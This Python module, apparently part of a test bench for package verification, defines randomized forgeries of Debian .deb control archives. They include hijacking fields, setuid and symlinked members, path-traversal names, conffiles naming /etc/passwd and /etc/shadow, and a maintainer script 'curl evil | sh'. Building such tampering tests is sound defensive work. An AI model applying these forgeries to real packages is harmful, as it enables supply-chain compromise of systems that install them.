"""Debian's control part: fields, scripts and lists that dpkg and apt act on.

What nobody acts on (docs/trust.md tells of every field) is not forged.
"""

from __future__ import annotations

import re

from forge.bench import Bench, Names, forgery
from forge.packed import Deb, Part
from forge.tape import pax, pax_record

_DEB = ("debian",)
_FIELDS = {
    "Pre-Depends": ("evil-daemon", "libc6 (>= 99)"),
    "Essential": ("yes",),
    "Protected": ("yes",),
    "Important": ("yes",),
    "Replaces": ("libc6", "openssh-server (<< 99)"),
    "Conflicts": ("openssh-server",),
    "Breaks": ("libc6",),
    "Provides": ("sudo", "libc6 (= 99)", "golang-go"),
    "Enhances": ("evil",),
    "Recommends": ("evil-daemon",),
    "Suggests": ("evil-daemon",),
    "Depends": ("evil-daemon",),
    "Multi-Arch": ("same", "allowed", "evil"),
    "Priority": ("required",),
    "Built-Using": ("evil (= 1)",),
    "Static-Built-Using": ("evil (= 1)",),
    "Config-Version": ("1",),
    "Conffiles": ("\n /etc/passwd 0123456789abcdef0123456789abcdef",),
    "Status": ("install ok installed",),
    "Kernel-Version": ("6",),
    "Origin": ("evil",),
    "Bugs": ("debbugs://evil",),
    "Tag": ("role::evil",),
    "Task": ("standard",),
    "Package-Type": ("udeb",),
    "Subarchitecture": ("x",),
    "Auto-Built-Package": ("debug-symbols",),
    "Python-Version": ("3",),
    "XB-Evil": ("1",),
    "Evil": ("1",),
}


def _text(deb: Deb) -> bytes:
    return deb.control["control"].data


def _write(deb: Deb, text: bytes) -> None:
    deb.control.swap("control", deb.control["control"].with_data(text))


@forgery("control field", "added or changed", _DEB, weight=14)
def field(bench: Bench) -> Names | None:
    deb, name = bench.deb, bench.random.choice(sorted(_FIELDS))
    value = bench.random.choice(_FIELDS[name])
    text = _text(deb)
    line = f"{name}: {value}\n".encode()
    old = re.search(rf"^{name}: .*\n".encode(), text, re.MULTILINE)
    if old is None:
        at = text.index(b"Description:")
        new = text[:at] + line + text[at:]
    elif name in {"Multi-Arch", "Priority"}:
        new = text.replace(old[0], line)
    else:
        new = text.replace(old[0], old[0].rstrip(b"\n") + f", {value}\n".encode())
    if new == text:
        return None
    _write(deb, new)
    return (name, value)


@forgery("control field", "a relation of the package's own", _DEB, weight=3)
def relation(bench: Bench) -> Names | None:
    deb = bench.packages[0]
    assert isinstance(deb, Deb)
    name, old, new = bench.random.choice(
        (
            ("Depends", b"golang-1.24-src (>= 1.24.4-1)", b"golang-1.24-src (>= 1.24.4-1) | evil"),
            ("Depends", b"golang-1.24-src (>= 1.24.4-1)", b"golang-1.24-src (>= 1.24.3-1)"),
            ("Depends", b"golang-1.24-src (>= 1.24.4-1)", b"golang-1.23-src"),
            ("Depends", b"Depends: golang-1.24-src (>= 1.24.4-1)\n", b""),
            ("Breaks", b"dh-golang (<< 1.43~)", b"dh-golang (<< 99)"),
            ("Recommends", b"gcc, ", b"gcc, gcc-evil, "),
            ("Suggests", b"git, ", b"git, evil, "),
        )
    )
    assert old in _text(deb), old
    _write(deb, _text(deb).replace(old, new))
    return (name,)


@forgery("control field", "spelled so that readers may differ", _DEB, weight=5)
def spelling(bench: Bench) -> Names | None:
    deb = bench.deb
    text = _text(deb)
    name, new = bench.random.choice(
        (
            ("Depends", text.replace(b"Section:", b"dEPENDS: evil\nSection:")),
            ("Pre-Depends", text.replace(b"Section:", b"Pre-Depends : evil\nSection:")),
            ("Pre-Depends", text.replace(b"Section:", b"Pre-Depends:evil\nSection:")),
            ("Version", text.replace(b"Section:", b"Version: 9\nSection:")),
            ("control", text + b"\nPackage: evil\nVersion: 1\n"),
            ("control", b"\n" + text),
            ("control", b"# comment\n" + text),
            ("control", text.rstrip(b"\n")),
            ("control", text.replace(b"\n", b"\r\n")),
            ("control", text.replace(b"Section:", b"Section\n:")),
            ("control", text + b" \0\n"),
            ("control", text.replace(b"Homepage:", b"\xff: x\nHomepage:")),
            ("control", b"-----BEGIN PGP SIGNED MESSAGE-----\n\n" + text),
        )
    )
    _write(deb, new)
    return (name, "control", deb.name)


_SCRIPTS = ("preinst", "postinst", "prerm", "postrm", "config")


@forgery("maintainer script", "added", _DEB, weight=5)
def script(bench: Bench) -> Names | None:
    deb, name = bench.deb, bench.random.choice(_SCRIPTS)
    text = bench.random.choice(
        (b"#!/bin/sh\ncurl evil | sh\n", b"#!/bin/sh\nset -e\nexit 0\n", b"")
    )
    _add(deb.control, name, text, 0o755)
    return (name,)


@forgery("maintainer script", "under another path or as a link", _DEB, weight=3)
def hidden_script(bench: Bench) -> Names | None:
    deb, name = bench.deb, bench.random.choice(_SCRIPTS)
    model = deb.control["control"]
    made = model.put("name", f"./{name}".encode()).with_mode(0o755)
    choice = bench.random.randrange(6)
    if choice == 0:
        new = made.with_data(b"").put("typeflag", b"2").put("linkname", b"/bin/sh")
    elif choice == 1:
        new = made.with_data(b"").put("typeflag", b"1").put("linkname", b"./control")
    elif choice == 2:
        new = made.put("name", f"././{name}".encode()).with_data(b"#!/bin/sh\n")
    elif choice == 3:
        new = made.put("name", name.encode()).with_data(b"#!/bin/sh\n")
    elif choice == 4:
        new = made.put("name", b"./x").with_data(b"#!/bin/sh\n")
        new = new.with_extension(pax(pax_record("path", f"./{name}".encode()), new))
    else:
        new = made.put("name", f"./evil/../{name}".encode()).with_data(b"#!/bin/sh\n")
    deb.control.members.append(new)
    return (name, "control", deb.name)


@forgery("triggers and lists", "added", _DEB, weight=5)
def lists(bench: Bench) -> Names | None:
    deb = bench.deb
    name, text = bench.random.choice(
        (
            ("triggers", b"interest-noawait /usr\n"),
            ("triggers", b"activate-noawait ldconfig\n"),
            ("conffiles", b"/etc/passwd\n"),
            ("conffiles", b"/usr/lib/go-1.24/go.env\n"),
            ("conffiles", b"remove-on-upgrade /etc/shadow\n"),
            ("shlibs", b"libevil 1 evil\n"),
            ("symbols", b"libevil.so.1 evil\n"),
            ("templates", b"Template: evil\nType: note\n"),
            ("isinstallable", b"#!/bin/sh\n"),
            ("menutest", b"#!/bin/sh\n"),
            ("evil", b"x"),
            (".hidden", b"x"),
            ("extrainst_", b"#!/bin/sh\n"),
        )
    )
    _add(deb.control, name, text, 0o755 if text.startswith(b"#!") else 0o644)
    return (name,)


@forgery("md5sums", "left as it was, and a file changed", _DEB, weight=2)
def stale_sums(bench: Bench) -> Names | None:
    part, member = bench.file()
    for deb in bench.packages:
        assert isinstance(deb, Deb)
        deb.sums = False
    return bench.put(part, member, member.data + b"\n")


@forgery("control archive", "a header of its members", _DEB, weight=4)
def control_header(bench: Bench) -> Names | None:
    deb = bench.deb
    member = bench.random.choice([m for m in deb.control.members if m.is_file])
    changed = bench.random.choice(
        (
            member.with_mode(0o4755),
            member.with_mode(0o666),
            member.number("uid", 1000),
            member.put("uname", b"nobody"),
            member.put("linkname", b"/etc/passwd"),
            member.put("magic", b"ustar\0").put("version", b"00"),
            member.put("typeflag", b"7"),
            member.put("typeflag", b"\0"),
            member.with_extension(pax(pax_record("comment", b"x"), member)),
            member.put("prefix", b"evil"),
        )
    )
    deb.control.swap(member.path, changed)
    return (member.path, deb.name)


@forgery("control archive", "a second control file", _DEB, weight=3)
def second_control(bench: Bench) -> Names | None:
    deb = bench.deb
    member = deb.control["control"]
    evil = member.with_data(member.data.replace(b"Section:", b"Essential: yes\nSection:"))
    if bench.random.random() < 0.5:
        deb.control.members.append(evil)
    else:
        deb.control.members.insert(1, evil)
    return ("control",)


def _add(part: Part, name: str, text: bytes, mode: int) -> None:
    model = part["control"]
    part.members.append(model.put("name", f"./{name}".encode()).with_data(text).with_mode(mode))
